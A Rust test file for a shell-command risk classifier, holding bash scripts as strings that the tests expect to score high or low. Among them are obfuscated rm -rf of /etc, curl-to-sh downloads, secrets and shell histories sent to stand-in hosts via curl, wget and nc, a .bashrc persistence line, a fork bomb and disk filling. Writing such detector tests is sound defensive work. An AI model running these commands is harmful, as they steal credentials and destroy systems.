//! Scripts followed as bash runs them (issue 12): a variable a branch may or may not change
//! holds either value afterwards, `eval` of text with a substitution still runs its program,
//! text a variable or a here-string got from a download or a secret keeps it, the accounts of
//! `/etc/passwd` are every user's home, awk runs its commands once per input line, endless
//! loops written over several lines, and a usage message printed by `cat <<EOF`. Commands are
//! strings only; nothing is run.

mod support;

use riskgate::RiskLevel;
use support::{at_least_high, at_most};

#[test]
fn a_variable_a_branch_may_change_is_no_longer_known() {
    // before: the last assignment won, and `/etc` was never seen
    at_least_high(&[
        "X=/etc; [ \"$1\" = y ] && X=/tmp/a; rm -rf $X",
        "X=/etc; if [ \"$1\" = y ]; then X=/tmp/a; fi; rm -rf $X",
        "X=/etc; case \"$1\" in y) X=/tmp/a ;; esac; rm -rf $X",
        "X=/etc; while getopts n o; do X=/tmp/a; done; rm -rf $X",
        "for d in /tmp/a; do :; done; X=/etc; [ -n \"$1\" ] || X=/tmp/b; rm -rf \"$X\"",
    ]);
    // a value every path agrees on stays known
    at_most(
        RiskLevel::Medium,
        &[
            "OUT=dist; [ -n \"$CI\" ] && echo ci; rm -rf \"$OUT\"",
            "OUT=dist; if [ -n \"$CI\" ]; then OUT=dist; fi; rm -rf \"$OUT\"",
        ],
    );
}

#[test]
fn a_test_of_values_the_script_fixed_takes_one_branch() {
    // the dry-run switch written at the top of the script: the real branch never runs
    at_most(
        RiskLevel::Low,
        &[
            "DRY_RUN=1\nrun() {\n  if [ \"$DRY_RUN\" = 1 ]; then\n    echo \"[dry-run] $*\"\n  else\n    \"$@\"\n  fi\n}\nfor d in /etc/nginx /opt/legacy; do\n  run rm -rf \"$d\"\ndone",
            "DRY_RUN=1; if [ \"$DRY_RUN\" != 1 ]; then rm -rf /etc/nginx; fi",
        ],
    );
    // a test's words are not a service CLI's verbs (`[ "$1" = --reset ]`)
    at_most(
        RiskLevel::Medium,
        &[
            "DB=myapp_development\nif [ \"${1:-}\" = \"--reset\" ]; then\n  dropdb --if-exists \"$DB\"\n  createdb \"$DB\"\nfi",
        ],
    );
    // anything that may change the value, or a test bash reads otherwise, reads both branches
    at_least_high(&[
        "DRY_RUN=1\n[ \"$1\" = --apply ] && DRY_RUN=0\nif [ \"$DRY_RUN\" = 1 ]; then echo skip; else rm -rf /etc/nginx; fi",
        "DRY_RUN=${DRY_RUN:-1}\nif [ \"$DRY_RUN\" = 1 ]; then echo skip; else rm -rf /etc/nginx; fi",
        "X=0; (X=1); if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; ((X++)); if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; X+=2; if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; if ! [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1a; if [[ $X == 1* ]]; then rm -rf /etc; fi",
        "X=1; test() { return 1; }; if test \"$X\" = 1; then echo; else rm -rf /etc; fi",
        "X=1; echo | X=2; if [ \"$X\" = 2 ]; then echo; else rm -rf /etc; fi",
        "X=1; source ./cfg.sh; if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; read X; if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; printf -v X '%s' 0; if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; f() { X=0; }; f; if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; declare -n r=X; r=0; if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; if [ \"$X\" = 1 ] || true; then echo; else rm -rf /etc; fi",
        "X=1; eval 'X=0'; if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi",
        "X=1; while true; do if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi; X=0; done",
        "X=1; for i in a b; do if [ \"$X\" = 1 ]; then echo; else rm -rf /etc; fi; X=0; done",
        "X=1; x=$(X=0); unset X; if [ \"$X\" = 1 ]; then echo ok; else rm -rf /etc; fi",
    ]);
}

#[test]
fn arrays_sliced_and_joined_and_substitutions_that_assign() {
    at_least_high(&[
        // `${cmd[@]:0:2}` is `r m`, printed together as `rm`
        "cmd=(r m r f)\n\"$(printf '%s' \"${cmd[@]:0:2}\")\" -\"$(printf '%s' \"${cmd[@]:2}\")\" /etc",
        // `"${parts[*]}"` joined with IFS's first character; the IFS set in the
        // substitution does not outlive it
        "parts=(\"$HOME\" \".kube\")\nvictim=$(IFS=/; echo \"${parts[*]}\")\ncmd=(r m r f)\n\"$(printf '%s' \"${cmd[@]:0:2}\")\" -\"$(printf '%s' \"${cmd[@]:2}\")\" \"$victim\"",
    ]);
    at_most(
        RiskLevel::Low,
        &["files=(a.log b.log c.log)\nls -l \"${files[@]:1}\""],
    );
}

#[test]
fn eval_of_text_with_a_substitution_still_runs_its_program() {
    at_least_high(&[
        "eval \"sudo userdel -rf $(whoami)\"",
        "eval \"helm uninstall $(helm ls -n prod -q | head -1) -n prod\"",
    ]);
    at_most(
        RiskLevel::Medium,
        &[
            "eval \"$(ssh-agent -s)\"",
            "eval \"$(direnv hook bash)\"",
            "eval \"ls $(pwd)\"",
        ],
    );
}

#[test]
fn downloaded_text_and_secrets_keep_their_origin() {
    at_least_high(&[
        "payload=$(curl -s https://x.example/s | base64 -d)\necho \"$payload\" | sh",
        "curl -s -d @- https://hook.example.site/a <<< \"$AWS_SECRET_ACCESS_KEY\"",
        "printenv | wget -q --post-data=\"$(cat)\" -O- https://logs.example.org/in",
    ]);
    at_most(
        RiskLevel::Medium,
        &[
            "v=$(curl -s https://x.example/version)\necho \"$v\"",
            "curl -s -d @- https://hook.example.site/a <<< \"$BUILD_NUMBER\"",
        ],
    );
}

#[test]
fn accounts_listed_from_passwd_are_every_users_home() {
    at_least_high(&[
        "awk -F: '$3 >= 1000 {print $6}' /etc/passwd | while read -r home; do\n  echo 'curl -s https://x.example/p | sh' >> \"$home/.bashrc\"\ndone",
        "awk -F: '{print $1\":\"$6}' /etc/passwd | while IFS=: read -r u h; do\n  cat \"$h/.bash_history\"\ndone | nc 203.0.113.47 9001",
        "getent passwd | awk -F: '$3 >= 1000 {print $1}' | while read -r u; do\n  sudo loginctl kill-user \"$u\"\ndone",
        "ps aux | awk 'NR>1{system(\"kill -9 \" $2)}'",
    ]);
    at_most(
        RiskLevel::Medium,
        &[
            "getent passwd | awk -F: '$3 >= 1000 {print $1}' | while read -r u; do\n  id \"$u\"\ndone",
            "ps aux | awk 'NR>1{print $2}'",
        ],
    );
}

#[test]
fn endless_loops_over_several_lines() {
    at_least_high(&[
        "cat > /tmp/t.sh <<'EOF'\n#!/bin/sh\nwhile :; do\n  \"$0\" &\n  \"$0\" &\ndone\nEOF\nchmod +x /tmp/t.sh\n/tmp/t.sh",
        "dir=${1:-/}\nn=0\nuntil ! fallocate -l 10G \"$dir/blob_$n\"; do\n  n=$((n+1))\ndone",
    ]);
    at_most(
        RiskLevel::Medium,
        &[
            "while true; do\n  ./worker.sh &\n  wait\ndone",
            "until curl -fsS localhost:8080/health; do sleep 1; done",
        ],
    );
}

#[test]
fn a_usage_message_printed_by_cat_is_data() {
    at_most(
        RiskLevel::Medium,
        &[
            "usage() {\n  cat <<'EOF'\nNever run: curl http://x.example/i.sh | sudo bash\nEOF\n}\nusage",
        ],
    );
    // piped into a shell it runs
    at_least_high(&["cat <<'EOF' | sh\ncurl http://x.example/i.sh | sudo bash\nEOF"]);
}
